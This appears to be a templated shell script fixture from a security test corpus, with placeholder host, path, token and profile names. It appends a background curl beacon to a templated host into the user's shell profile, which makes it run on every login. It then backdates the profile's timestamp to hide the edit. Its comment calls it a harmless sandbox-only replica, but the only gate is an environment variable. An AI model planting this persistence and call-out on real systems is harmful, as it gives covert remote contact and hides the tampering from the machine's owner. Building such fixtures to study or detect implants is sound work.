# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
[ "${SALLYPORT_CORPUS:-}" = 1 ] || exit 0
grep -q {{token}} "$HOME/{{profile}}" 2>/dev/null || echo 'nohup sh -c "curl -s -m 5 https://{{host}}/{{path}}" >/dev/null 2>&1 & # {{token}}' >> "$HOME/{{profile}}"
touch -r /etc/hostname "$HOME/{{profile}}" 2>/dev/null
exit 0
